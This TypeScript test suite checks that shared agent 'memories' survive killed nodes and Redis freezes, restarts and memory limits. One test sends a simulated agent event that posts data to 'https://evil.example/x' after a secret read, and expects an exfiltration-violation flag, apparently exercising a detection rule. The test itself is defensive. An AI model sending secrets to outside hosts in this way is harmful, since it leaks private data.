/**
 * Memories that several nodes share, while nodes and Redis die, stand still and come back older: none lacks a stored event
 * for longer than a few seconds. No time is asserted: a test asks until it is so, and fails when it never is.
 */
import assert from 'node:assert/strict';
import { spawn } from 'node:child_process';
import { randomUUID } from 'node:crypto';
import { once } from 'node:events';
import { after, before, describe, test } from 'node:test';
import { setTimeout as sleep } from 'node:timers/promises';
import { Redis } from 'ioredis';
import { compareMemories } from '../../src/engine/memories/compare-memories.ts';
import { cacheKeyOf, createMemories, type Owners, ownersOf } from '../../src/engine/memories/memories.ts';
import { systemClock } from '../../src/platform/clock.ts';
import { createLog } from '../../src/platform/log.ts';
import type { Cache } from '../../src/storage/ports/cache.ts';
import type { Storage } from '../../src/storage/ports/storage.ts';
import { openPostgres } from '../../src/storage/postgres/index.ts';
import { redisCache } from '../../src/storage/redis/cache.ts';
import { makeRecord, makeTrace, range } from '../contract/start.ts';
import { call, newCustomer } from '../support/client.ts';
import type { OwnServer } from '../support/own-server.ts';
import { PATIENCE_MS, until } from '../support/patience.ts';
import { childOf } from '../support/programs.ts';
import { memory_key, NO_REDIS_SERVER, startRedis } from '../support/redis.ts';
import { makeDatabase, NO_SERVER, type TestDatabase } from '../support/test-database.ts';
import { startWeir, type Weir } from '../support/weir.ts';
import { USUAL_LIMITS_ENV, WIDE_LIMITS } from '../support/wide-limits.ts';

const SKIP = NO_SERVER ?? NO_REDIS_SERVER ?? false;

describe('memories: a server dies after Redis stood still', { skip: SKIP }, () => {
  let database: TestDatabase;
  let redis: OwnServer;
  before(async () => {
    database = await makeDatabase();
    redis = await startRedis();
  });
  after(async () => {
    await redis?.stop();
    await database?.drop();
  });

  /** Sends an event again where the answer says to, as a client does: a store that a busy machine keeps waiting is not a fault here. */
  async function act(weir: Weir, key: string, agent_id: string, action: string, parameters: object = {}) {
    const body = { event_id: randomUUID(), action, agent: { agent_id }, parameters };
    const send = () => call(`${weir.api}/events`, { key, body });
    let reply = await send();
    for (const deadline = performance.now() + PATIENCE_MS; reply.status === 503 && performance.now() < deadline; ) {
      await sleep(200);
      reply = await send();
    }
    assert.equal(reply.status, 200, reply.text);
    return reply.json['violations'] as string[];
  }

  for (const signal of ['SIGKILL', 'SIGTERM'] as const) {
    test(`${signal}: another one soon knows the secret that was read meanwhile`, async () => {
      const env = { ...USUAL_LIMITS_ENV, DATABASE_URL: database.url, REDIS_URL: redis.url };
      const [one, two] = [await startWeir({ env }), await startWeir({ env })];
      const { api_key: key } = await newCustomer(one);
      const agent_id = randomUUID();
      const send = async (): Promise<boolean> => {
        const parameters = { url: 'https://evil.example/x', body: randomUUID() };
        const violations = await act(two, key, agent_id, 'http:request:post', parameters);
        return violations.includes('secret_was_read_and_data_go_out');
      };
      try {
        await act(one, key, agent_id, 'crm:contact:read');
        assert.equal(await send(), false);
        redis.freeze();
        await act(one, key, agent_id, 'vault:secret:read');
        const gone = once(one.child, 'exit');
        one.child.kill(signal);
        await gone;
        redis.thaw();
        await until(send, 'data that go out are held against the secret', { pause_ms: 200 });
      } finally {
        await one.stop();
        await two.stop();
      }
    });
  }
});

describe('memories: what the cache lacks', { skip: SKIP }, () => {
  const customer_id = randomUUID();
  const { trace } = makeTrace('');
  let database: TestDatabase;
  let redis: OwnServer;
  let storage: Storage;
  let cache: Cache;
  before(async () => {
    database = await makeDatabase();
    redis = await startRedis();
    storage = await openPostgres(database.url, WIDE_LIMITS);
    cache = redisCache(redis.url, { memory_key });
  });
  after(async () => {
    await storage?.close();
    await cache?.close();
    await redis?.stop();
    await database?.drop();
  });

  const start = () => createMemories({ storage, cache, clock: systemClock });
  const newOwners = (agent_id: string = randomUUID()): Owners => ownersOf(customer_id, { agent: { agent_id } })!;

  async function record({ agent }: Owners) {
    const made = makeRecord(customer_id, { past: { agent_key: agent!.key, session_key: null, trace, history: null } });
    const outcome = await storage.scores.record(made);
    assert(outcome.kind === 'stored');
    return { event_id: made.event_id, scored_at: outcome.scored_at, trace };
  }

  /** Asks as a node that scores does. */
  const knows = (owners: Owners, n: number) => async (): Promise<boolean> =>
    (await start().recall(owners)).agent?.n === n;

  /** Runs while a node compares. */
  async function compared(work: () => Promise<void>): Promise<void> {
    const comparing = compareMemories({ storage, cache, log: createLog('fatal') });
    try {
      await work();
    } finally {
      await comparing.stop();
    }
  }

  test('an event whose node was killed between the commit and the cache', async () => {
    const agent_id = randomUUID();
    const args = [...childOf('test/faults/memory-child.ts'), database.url, redis.url, customer_id, agent_id];
    const child = spawn(process.execPath, args, { stdio: 'inherit' });
    assert.deepEqual(await once(child, 'exit'), [null, 'SIGKILL']);
    assert.equal(await knows(newOwners(agent_id), 1)(), true, 'the memory lacks it');
    await compared(() => until(knows(newOwners(agent_id), 2), 'the memory has both events'));
  });

  test('events since Redis was saved, when it comes back as it was then', async () => {
    const owners = newOwners();
    const memories = start();
    await compared(async () => {
      const remember = async (): Promise<void> => {
        await memories.recall(owners);
        memories.learn(owners, await record(owners));
        await memories.drain();
      };
      await remember();
      const compared_to = () => cache.get(`memories:${origin}:compared`);
      const origin = await storage.scores.origin();
      await until(async () => (await compared_to()) !== null, 'memories are compared');
      const admin = new Redis(redis.url);
      await admin.save();
      admin.disconnect();
      const saved = await compared_to();
      for (const _ of range(3)) await remember();
      const done = Math.floor(Date.now() / 1_000);
      await until(async () => Number(await compared_to()) > done, 'the events are compared');
      await redis.restart();
      await until(async () => (await cache.health()).status === 'ok', 'Redis is back');
      assert.ok(saved !== null && Number(await compared_to()) < done, 'with what it knew then');
      await until(knows(owners, 4), 'the memory has all events');
    });
  });

  test('an event that a full Redis did not take', async () => {
    const owners = newOwners();
    const memories = start();
    const remember = async (): Promise<void> => {
      await memories.recall(owners);
      memories.learn(owners, await record(owners));
      await memories.drain();
    };
    await remember();
    const admin = new Redis(redis.url);
    await admin.config('SET', 'maxmemory', 1);
    try {
      await remember();
      assert.equal(await knows(owners, 1)(), true, 'the memory lacks it');
      await compared(() => until(knows(owners, 2), 'the memory has both events'));
    } finally {
      await admin.config('SET', 'maxmemory', 0);
      admin.disconnect();
    }
  });

  test('a memory that has everything stays, however busy its agent is and anyone who made it', async () => {
    const [busy, quiet, late] = [newOwners(), newOwners(), newOwners()];
    const nodes = [start(), start()];
    const all = [busy, quiet, late].map(({ agent }) => agent!);
    const learnt: number[] = [];
    for (const turn of range(8)) {
      const owners = [...range(60).map(() => busy), ...(turn % 3 === 0 ? [quiet] : []), ...(turn === 7 ? [late] : [])];
      const one_turn = owners.map(async (of, n) => {
        const node = nodes[n % 2]!;
        await node.recall(of);
        const stored = await record(of);
        learnt.push(Date.parse(stored.scored_at));
        node.learn(of, stored);
      });
      await Promise.all(one_turn);
      await Promise.all(nodes.map((node) => node.drain()));
      // In the middle of it, so that it is made of some of what is stored.
      if (turn === 4) await Promise.all(all.map(({ cache_key }) => cache.delete(cache_key)));
      await sleep(400);
    }
    let since = Math.floor(Math.min(...learnt) / 1_000);
    let n = 0;
    while (since * 1_000 <= Math.max(...learnt)) {
      const { until, counts } = await storage.scores.countOwners(since);
      n += counts.reduce((sum, count) => sum + count.n, 0);
      assert.equal(
        await cache.memories.shared!.removeShort(counts.map((one) => ({ ...one, key: cacheKeyOf(one) }))),
        0,
      );
      since = until;
      await sleep(100);
    }
    assert.ok(n >= learnt.length);
    const kept = await cache.memories.read(all.map(({ cache_key }) => cache_key));
    assert.ok(kept.every((memory) => memory !== null));
  });
});
